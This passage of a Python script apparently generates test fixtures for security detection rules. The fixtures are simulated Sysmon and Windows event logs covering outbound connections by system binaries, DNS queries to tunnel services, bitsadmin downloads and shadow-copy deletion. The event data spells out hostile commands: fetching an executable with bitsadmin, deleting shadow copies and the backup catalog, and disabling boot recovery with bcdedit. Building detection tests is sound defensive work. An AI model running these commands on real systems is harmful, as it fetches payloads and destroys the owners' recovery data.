      sb("Get-ADComputer -Filter * -Properties OperatingSystem | Select Name,OperatingSystem", time='2026-11-17 09:37:30'))
write(D + 'nomatch/get_aduser_one_identity.json',
      sb('Get-ADUser -Identity jdoe -Properties MemberOf | Select-Object -ExpandProperty MemberOf',
         path='C:\\Scripts\\helpdesk\\groups.ps1'))
write(D + 'nomatch/get_aduser_filter_disabled.json',
      sb('Get-ADUser -Filter {Enabled -eq $false} -SearchBase "OU=Leavers,DC=corp,DC=example,DC=org" | Remove-ADUser -Confirm:$false',
         path='C:\\Scripts\\cleanup-leavers.ps1'))
write(D + 'nomatch/get_netadapter.json', sb("Get-NetAdapter | Where-Object Status -eq 'Up' | Select-Object Name,LinkSpeed"))

# --- network_connection/command_and_control_lolbin_outbound_connection
D = 'network_connection/command_and_control_lolbin_outbound_connection/'
write(D + 'match/sysmon3_rundll32_public_443.json', sysmon3('2026-11-17 10:35:00', RUNDLL32, '198.51.100.23', '443', port_name='https'))
write(D + 'match/sysmon3_regsvr32_public_80_twice.ndjson',
      sysmon3('2026-11-17 10:35:10', REGSVR32, '203.0.113.45', '80', port_name='http'),
      sysmon3('2026-11-17 10:35:40', REGSVR32, '203.0.113.45', '80', port_name='http'))
write(D + 'match/sysmon3_powershell_public_443.json', base('sysmon_3'))
write(D + 'match/sysmon1_script_start_then_its_public_443.ndjson',
      ps_start('2026-11-17 10:34:58', 'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\sync.ps1', pid='6120'),
      sysmon3('2026-11-17 10:35:02', PS, '198.51.100.23', '443', port_name='https'))
# The connection of a PowerShell whose start is alerted (encoded command, download cradle) is left to that alert: one
# alert per chain, checked in the cradle rule's match folder (and, for an encoded stager, by the demo scenario: its two
# callbacks to 198.51.100.23:443 raise nothing beyond its 3 alerts).
write('process_creation/execution_powershell_download_cradle/match/sysmon1_cradle_start_and_its_download.ndjson',
      ps_start('2026-11-17 10:36:10', CRADLE, pid='6120'),
      sysmon3('2026-11-17 10:36:11', PS, '198.51.100.23', '80', port_name='http'))
write(D + 'nomatch/sysmon3_powershell_internal_proxy_443.json',
      sysmon3('2026-11-17 10:35:20', PS, '10.20.0.15', '443', host='proxy.corp.example.org', port_name='https'))
write(D + 'nomatch/sysmon3_msbuild_private_80.json', sysmon3('2026-11-17 10:35:21', MSBUILD, '192.168.1.20', '80', port_name='http'))
write(D + 'nomatch/sysmon3_chrome_public_443.json', sysmon3('2026-11-17 10:35:22', CHROME, '198.51.100.23', '443', port_name='https'))

# --- dns_query/command_and_control_tunnel_service_dns_query
D = 'dns_query/command_and_control_tunnel_service_dns_query/'
write(D + 'match/sysmon22_powershell_ngrok_free_app.json',
      sysmon22('2026-11-17 10:37:00', PS, 'a1b2-198-51-100-23.ngrok-free.app', 'type:  5 ngrok-free.app;::ffff:198.51.100.23;'))
write(D + 'match/sysmon22_rundll32_trycloudflare.json',
      sysmon22('2026-11-17 10:37:10', RUNDLL32, 'tigers-eagle-bright-river.trycloudflare.com', '::ffff:203.0.113.45;'))
write(D + 'match/sysmon22_wscript_pastebin.json',
      sysmon22('2026-11-17 10:37:20', WSCRIPT, 'pastebin.com', '::ffff:203.0.113.80;'))
write(D + 'nomatch/sysmon22_chrome_pastebin.json',
      sysmon22('2026-11-17 10:37:30', CHROME, 'pastebin.com', '::ffff:203.0.113.80;'))
write(D + 'nomatch/sysmon22_edge_ngrok_website.json',
      sysmon22('2026-11-17 10:37:31', EDGE, 'ngrok.com', '::ffff:203.0.113.90;'))
write(D + 'nomatch/sysmon22_lookalike_suffix.json',
      sysmon22('2026-11-17 10:37:32', PS, 'cdn.notngrok.io.example.net', '::ffff:198.51.100.40;'))

# --- process_creation/command_and_control_bitsadmin_download
D = 'process_creation/command_and_control_bitsadmin_download/'
write(D + 'match/sysmon1_bitsadmin_transfer_https.json',
      sysmon1('2026-11-17 10:39:00', BITSADMIN,
              'bitsadmin /transfer myjob /download /priority high https://198.51.100.23/p.exe C:\\Users\\Public\\p.exe',
              CMD, 'cmd.exe', original='bitsadmin.exe', description='BITS administration utility'))
write(D + 'match/security4688_bitsadmin_addfile_http.json',
      sec4688('2026-11-17 10:39:10', BITSADMIN, 'bitsadmin.exe /addfile upd http://files.example-cdn.net/u.bin C:\\ProgramData\\u.bin', CMD))
write(D + 'nomatch/sysmon1_bitsadmin_transfer_wsus_short_name.json',
      sysmon1('2026-11-17 10:39:20', BITSADMIN, 'bitsadmin /transfer wsus http://wsus01/Content/kb5031356.cab C:\\Temp\\kb.cab',
              CMD, 'cmd.exe', original='bitsadmin.exe'))
write(D + 'nomatch/security4688_bitsadmin_transfer_private_ip.json',
      sec4688('2026-11-17 10:39:21', BITSADMIN, 'bitsadmin /transfer agent http://10.20.0.5/agent.msi C:\\Temp\\agent.msi', CMD))

# --- process_creation/impact_inhibit_system_recovery
D = 'process_creation/impact_inhibit_system_recovery/'
write(D + 'match/sysmon1_vssadmin_delete_shadows.json',
      sysmon1('2026-11-17 10:41:00', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', CMD,
              'cmd.exe /c vssadmin.exe delete shadows /all /quiet', original='VSSADMIN.EXE'))
write(D + 'match/security4688_wmic_shadowcopy_delete.json',
      sec4688('2026-11-17 10:41:10', WMIC, 'wmic shadowcopy delete /nointeractive', CMD))
write(D + 'match/sysmon1_cmd_bcdedit_and_wbadmin.ndjson',
      sysmon1('2026-11-17 10:41:20', CMD,
              'cmd.exe /c bcdedit /set {default} recoveryenabled No & bcdedit /set {default} bootstatuspolicy ignoreallfailures',
              EXPLORER, EXPLORER, original='Cmd.Exe', pid='4410', guid_tail='4410'),
      sysmon1('2026-11-17 10:41:21', 'C:\\Windows\\System32\\wbadmin.exe', 'wbadmin delete catalog -quiet', CMD, 'cmd.exe',
              original='WBADMIN.EXE'))
write(D + 'nomatch/sysmon1_vssadmin_list_shadows.json',
      sysmon1('2026-11-17 10:41:30', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows', CMD, 'cmd.exe',
              original='VSSADMIN.EXE'))
write(D + 'nomatch/security4688_bcdedit_enum.json',
      sec4688('2026-11-17 10:41:31', 'C:\\Windows\\System32\\bcdedit.exe', 'bcdedit /enum {current}', CMD))
write(D + 'nomatch/sysmon1_wbadmin_start_backup.json',
      sysmon1('2026-11-17 10:41:32', 'C:\\Windows\\System32\\wbadmin.exe',
              'wbadmin start backup -backupTarget:\\\\nas01\\backups -include:C: -allCritical -quiet', CMD, 'cmd.exe',
              original='WBADMIN.EXE'))
